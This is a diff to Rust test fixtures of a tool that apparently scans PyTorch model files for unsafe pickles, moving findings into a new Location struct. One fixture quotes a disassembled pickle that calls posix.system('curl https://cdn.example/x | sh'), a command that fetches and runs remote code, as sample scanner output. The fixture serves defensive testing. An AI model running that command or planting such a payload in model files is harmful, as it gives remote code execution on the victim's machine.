@@ -4,7 +4,7 @@ use std::sync::Arc;
 
 use weighbridge::{
     fact::{Commit, Excerpt, Global, GlobalName, Hop, Introduction, Mark, Place, Site, Text},
-    finding::{Finding, Level, Precision, Related, RuleMeta, Severity, Subject},
+    finding::{Finding, Level, LineRef, Location, Precision, RuleMeta, Severity, Subject},
     inventory::Artifact,
     report::{self, Style},
     verdict::{Coverage, Report},
@@ -54,20 +54,14 @@ pub(crate) static FORMAT: RuleMeta = rule(
 
 /// A finding without anything that explains it.
 pub(crate) fn finding(rule: &'static RuleMeta, path: &str, message: &str) -> Finding {
-    Finding {
-        rule,
-        level: rule.level,
+    Finding::new(rule, Subject::Artifact, whole(path), message)
+}
+
+/// All of a file.
+pub(crate) fn whole(path: &str) -> Location {
+    Location {
         path: path.into(),
-        site: Site::default(),
-        message: message.to_owned(),
-        subject: Subject::Artifact,
-        count: 1,
-        related: Vec::new(),
-        help: Vec::new(),
-        excerpt: None,
-        introduced_by: None,
-        on_change: true,
-        fix: Vec::new(),
+        ..Location::default()
     }
 }
 
@@ -122,9 +116,9 @@ pub(crate) fn global(module: &str, name: &str) -> Subject {
 }
 
 /// A line of a policy.
-pub(crate) fn decided(file: &str, line: u32, text: &str, part: &str, label: &str) -> Related {
+pub(crate) fn decided(file: &str, line: u32, text: &str, part: &str, label: &str) -> LineRef {
     let start = text.find(part).expect("the marked part is in the line");
-    Related {
+    LineRef {
         file: file.to_owned(),
         line,
         text: text.to_owned(),
@@ -136,33 +130,36 @@ pub(crate) fn decided(file: &str, line: u32, text: &str, part: &str, label: &str
 /// A torch zip that runs a shell command.
 pub(crate) fn torch_zip() -> Finding {
     Finding {
-        site: opcode("archive/data.pkl", 0x1f, "REDUCE"),
+        primary: Location {
+            site: opcode("archive/data.pkl", 0x1f, "REDUCE"),
+            excerpt: Some(excerpt(
+                None,
+                "0x000b  STACK_GLOBAL     posix.system\n\
+             0x000e  SHORT_BINUNICODE 'curl https://cdn.example/x | sh'\n\
+             0x001e  TUPLE1\n\
+             0x001f  REDUCE           posix.system('curl https://cdn.example/x | sh')",
+                &[
+                    (
+                        "posix.system('curl https://cdn.example/x | sh')",
+                        "runs here",
+                    ),
+                    ("posix.system", "resolved here"),
+                ],
+            )),
+            ..whole("models/resnet.pt")
+        },
         subject: global("posix", "system"),
-        related: vec![decided(
+        decided_by: Some(decided(
             "weighbridge.yaml",
             7,
             "  allow: [torch, numpy]",
             "[torch, numpy]",
             "neither list names posix.system",
-        )],
+        )),
         help: vec![
             "do not load this file; ask whoever published it for safetensors".to_owned(),
             "`weighbridge inspect models/resnet.pt --disassemble` shows every step".to_owned(),
         ],
-        excerpt: Some(excerpt(
-            None,
-            "0x000b  STACK_GLOBAL     posix.system\n\
-             0x000e  SHORT_BINUNICODE 'curl https://cdn.example/x | sh'\n\
-             0x001e  TUPLE1\n\
-             0x001f  REDUCE           posix.system('curl https://cdn.example/x | sh')",
-            &[
-                (
-                    "posix.system('curl https://cdn.example/x | sh')",
-                    "runs here",
-                ),
-                ("posix.system", "resolved here"),
-            ],
-        )),
         ..finding(
             &GLOBAL,
             "models/resnet.pt",
@@ -173,18 +170,23 @@ pub(crate) fn torch_zip() -> Finding {
 
 /// Source that unpickles.
 pub(crate) fn source() -> Finding {
+    let lines = "def restore(path):\n    state = torch.load(path, map_location=\"cpu\")\n    return state[\"größe\"]";
+    let fixed = "state = torch.load(path, map_location=\"cpu\", weights_only=True)";
     Finding {
-        site: span(12, 12, 22),
+        primary: Location {
+            site: span(12, 12, 22),
+            excerpt: Some(excerpt(
+                Some(11),
+                lines,
+                &[
+                    ("torch.load", "unpickles whatever the file says"),
+                    ("path, map_location=\"cpu\"", ""),
+                ],
+            )),
+            ..whole("src/train.py")
+        },
         subject: Subject::Call("torch.load".into()),
-        help: vec!["pass `weights_only=True`:\nstate = torch.load(path, map_location=\"cpu\", weights_only=True)".to_owned()],
-        excerpt: Some(excerpt(
-            Some(11),
-            "def restore(path):\n    state = torch.load(path, map_location=\"cpu\")\n    return state[\"größe\"]",
-            &[
-                ("torch.load", "unpickles whatever the file says"),
-                ("path, map_location=\"cpu\"", ""),
-            ],
-        )),
+        help: vec![format!("pass `weights_only=True`:\n{fixed}")],
         ..finding(
             &LOAD,
             "src/train.py",
@@ -197,12 +199,15 @@ pub(crate) fn source() -> Finding {
 pub(crate) fn report() -> Report {
     let mut findings = vec![torch_zip(), source()];
     findings.push(Finding {
-        site: Site {
-            hops: vec![],
-            at: Place::Bytes {
-                start: 0x1f40,
-                end: 0x1f9e,
+        primary: Location {
+            site: Site {
+                hops: vec![],
+                at: Place::Bytes {
+                    start: 0x1f40,
+                    end: 0x1f9e,
+                },
             },
+            ..whole("models/resnet.pt")
         },
         subject: Subject::Anomaly("duplicate-member".to_owned()),
         help: vec!["write the archive again with `torch.save` from a trusted process".to_owned()],
@@ -233,17 +238,20 @@ pub(crate) fn report() -> Report {
     });
     for i in 0..100_u64 {
         findings.push(Finding {
-            site: opcode("data.pkl", 0x40 + i * 9, "STACK_GLOBAL"),
+            primary: Location {
+                site: opcode("data.pkl", 0x40 + i * 9, "STACK_GLOBAL"),
+                excerpt: Some(excerpt(
+                    None,
+                    &format!(
+                        "{:#06x}  STACK_GLOBAL     zoo.layers.Layer{:02}",
+                        0x40 + i * 9,
+                        i % 60
+                    ),
+                    &[("zoo.layers", "")],
+                )),
+                ..whole("zoo/legacy.bin")
+            },
             subject: global("zoo.layers", &format!("Layer{:02}", i % 60)),
-            excerpt: Some(excerpt(
-                None,
-                &format!(
-                    "{:#06x}  STACK_GLOBAL     zoo.layers.Layer{:02}",
-                    0x40 + i * 9,
-                    i % 60
-                ),
-                &[("zoo.layers", "")],
-            )),
             ..finding(
                 &GLOBAL,
                 "zoo/legacy.bin",
@@ -256,7 +264,10 @@ pub(crate) fn report() -> Report {
     }
     for line in [31, 7, 19, 44, 44] {
         findings.push(Finding {
-            site: span(line, 5, 15),
+            primary: Location {
+                site: span(line, 5, 15),
+                ..whole("src/tools.py")
+            },
             subject: Subject::Call("torch.load".into()),
             ..finding(
                 &LOAD,
@@ -368,30 +379,33 @@ pub(crate) fn hostile_report(text: &Text, hostile: impl Fn() -> String) -> Repor
             Subject::Artifact,
         ] {
             findings.push(Finding {
-                path: text.clone(),
-                site: Site {
-                    hops: vec![member.clone()],
-                    ..opcode("", i, &hostile())
+                primary: Location {
+                    path: text.clone(),
+                    site: Site {
+                        hops: vec![member.clone()],
+                        ..opcode("", i, &hostile())
+                    },
+                    excerpt: Some(Excerpt {
+                        text: lines.clone(),
+                        first_line: (i % 2 == 0).then_some(9),
+                        marks: vec![Mark {
+                            range: 7..60,
+                            label: hostile(),
+                        }],
+                    }),
+                    introduced_by: (i % 3 == 0).then(|| introduction.clone()),
+                    ..Location::default()
                 },
                 message: hostile(),
                 subject,
                 help: vec![hostile()],
-                related: vec![Related {
+                decided_by: Some(LineRef {
                     file: hostile(),
                     line: 3,
                     text: hostile(),
                     range: 5..40,
                     label: hostile(),
-                }],
-                excerpt: Some(Excerpt {
-                    text: lines.clone(),
-                    first_line: (i % 2 == 0).then_some(9),
-                    marks: vec![Mark {
-                        range: 7..60,
-                        label: hostile(),
-                    }],
                 }),
-                introduced_by: (i % 3 == 0).then(|| introduction.clone()),
                 on_change: i % 4 != 0,
                 level: if i % 5 == 0 { Level::Warn } else { Level::Deny },
                 ..finding(if i % 2 == 0 { &GLOBAL } else { &LOAD }, "", "")
